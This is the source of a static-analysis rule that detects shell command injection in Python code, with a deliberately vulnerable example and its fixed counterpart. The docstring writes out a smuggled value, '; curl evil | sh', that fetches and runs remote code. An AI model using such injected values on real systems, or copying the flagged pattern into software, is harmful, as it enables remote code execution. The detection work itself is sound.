"""A value pasted into a shell command is run by the shell.

`; curl evil | sh` in a file name is all it takes; the command runs with the
service's rights.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from prodwright.kit import (
    Brief,
    Example,
    Flow,
    Hazard,
    Severity,
    Site,
    Source,
    constant,
    is_literal,
    keyword,
    only_value,
    varying_parts,
)

EXAMPLES = (
    Example(
        bad="""
            import os
            import subprocess


            def resize(name):
                command = f"convert {name} out.png"
                subprocess.run(command, shell=True, check=True, timeout=9)  # flagged
                os.system("rm -f " + name)  # flagged
        """,
        good="""
            import subprocess
            from pathlib import Path


            def resize(name):
                subprocess.run(["convert", name, "out.png"], check=True, timeout=9)
                Path(name).unlink(missing_ok=True)
        """,
    ),
)

_SHELLS = frozenset(
    {
        "os.system",
        "os.popen",
        "subprocess.getoutput",
        "subprocess.getstatusoutput",
        "commands.getoutput",
        "asyncio.create_subprocess_shell",
    }
)
_RUNS = re.compile(r"subprocess\.(run|call|check_call|check_output|Popen)")


def check(source: Source) -> Iterator[Site]:
    for call in source.calls_where(_starts_process):
        name = source.called(call) or ""
        if not call.args or not _uses_shell(name, call):
            continue
        pasted = [
            hole
            for hole in varying_parts(source, call.args[0])
            if not (_is_safe(source, hole) or _NOT_A_VALUE.fullmatch(_name(hole)))
        ]
        if pasted:
            text = source.segment(pasted[0]).partition("\n")[0]
            message = f"the shell runs whatever {text} contains"
            # Where the text comes from is what the data flow shows.
            yield Site(node=call, message=message, severity=Severity.NOTE)


def _starts_process(name: str) -> bool:
    return name in _SHELLS or _RUNS.fullmatch(name) is not None


def _uses_shell(name: str, call: ast.Call) -> bool:
    if name in _SHELLS:
        return True
    return (
        constant(keyword(call, "shell")) is True and _RUNS.fullmatch(name) is not None
    )


# A command that is run as given, and numbers.
_NOT_A_VALUE = re.compile(
    r"(?i)(.*_)?(cmd|command|cmdline|editor|pager|pid|port|flags?|options?|count)|(tmp|temp)\w*"
)


def _name(hole: ast.expr) -> str:
    match hole:
        case ast.Name(id=name) | ast.Attribute(attr=name):
            return name
        case _:
            return ""


def _is_safe(source: Source, hole: ast.expr) -> bool:
    if isinstance(hole, ast.Name) and any(
        trusts(source, hole)
        for trusts in (_is_one_of, _is_own_place, _is_temporary_name)
    ):
        return True
    value = only_value(source, hole)
    match value:
        case ast.Call():
            return _makes_safe(source, value)
        case ast.Attribute(value=owner, attr="name") if _is_temporary(source, owner):
            return True
        case ast.Attribute() | ast.Name():
            known = source.qualified(value) or ""
            return known.startswith(("sys.", "os.")) or _name(value).isupper()
        case _:
            return False


def _makes_safe(source: Source, call: ast.Call) -> bool:
    made_by = source.called(call) or ""
    if made_by.startswith("tempfile."):
        return True
    if made_by == "os.path.join":
        return _GIVEN.search(source.segment(call)) is None
    return _name(call.func) in _SAFE_CALLS or _is_fixed(source, call)


_SAFE_CALLS = frozenset({"quote", "join", "list2cmdline", "int", "getpid", "str_quote"})


def _is_fixed(source: Source, value: ast.expr) -> bool:
    """Worked out of texts in the code, or the operator's own choice of a program."""
    if not isinstance(value, ast.Call):
        return False
    name = source.called(value) or ""
    if name in ("os.getenv", "os.environ.get"):
        return True
    given = [*value.args, *(each.value for each in value.keywords)]
    return bool(given) and all(is_literal(source, each) for each in given)


def _is_one_of(source: Source, hole: ast.Name) -> bool:
    """It is one of several constants, or a loop over fixed texts fills it."""
    values = source.names.values_of(hole.id, hole)
    if values and all(_is_constant(each) for each in values):
        return True
    return any(
        isinstance(around, ast.For)
        and isinstance(around.target, ast.Name)
        and around.target.id == hole.id
        and is_literal(source, around.iter)
        for around in source.ancestors(hole)
    )


_PLACE = re.compile(r"(?i)\w+_(path|file|dir|folder)")
_GIVEN = re.compile(r"(?i)file_?name|upload|request|input|argv|args|params")


def _is_own_place(source: Source, hole: ast.Name) -> bool:
    """A path that the module worked out, not one that it was handed."""
    function = source.function_of(hole)
    if function is None or not _PLACE.fullmatch(hole.id):
        return False
    given = {each.arg for each in (*function.args.args, *function.args.kwonlyargs)}
    if hole.id in given:
        return function.name.startswith("_")
    values = source.names.values_of(hole.id, hole)
    return not any(_GIVEN.search(_text(source, each)) for each in values)


def _text(source: Source, value: ast.expr) -> str:
    return source.segment(value) if source.parent(value) else ""


def _is_constant(value: ast.expr) -> bool:
    match value:
        case ast.Name(id=name) | ast.Attribute(attr=name):
            return name.isupper()
        case ast.Constant(value=str()):
            return True
        case _:
            return False


def _is_temporary_name(source: Source, hole: ast.Name) -> bool:
    values = source.names.values_of(hole.id, hole)
    made = [each for each in values if not _is_nothing(each)]
    return bool(made) and all(
        isinstance(each, ast.Attribute)
        and each.attr == "name"
        and _is_temporary(source, each.value)
        for each in made
    )


def _is_nothing(value: ast.expr) -> bool:
    return isinstance(value, ast.Constant) and value.value is None


def _is_temporary(source: Source, owner: ast.expr) -> bool:
    opened = _opened_around(source, owner) or owner
    return (source.names.instance_of(opened) or "").startswith("tempfile.")


def _opened_around(source: Source, owner: ast.expr) -> ast.expr | None:
    """What the nearest `with` around gives the name to."""
    if not isinstance(owner, ast.Name):
        return None
    for around in source.ancestors(owner):
        for item in around.items if isinstance(around, ast.With) else ():
            match item.optional_vars:
                case ast.Name(id=name) if name == owner.id:
                    return item.context_expr
    return None


REPAIR = Brief(
    summary="Pass a list of arguments without a shell; where a shell is needed, wrap "
    "each value in `shlex.quote`"
)

HAZARD = Hazard(
    title="Run programs without a shell",
    practice="sanitize-io",
    severity=Severity.HIGH,
    check=check,
    flow=Flow("command", says="becomes part of a command", also=("program",)),
    repair=REPAIR,
    examples=EXAMPLES,
    references=("CWE-78", "ASVS 5 1.2.5"),
)
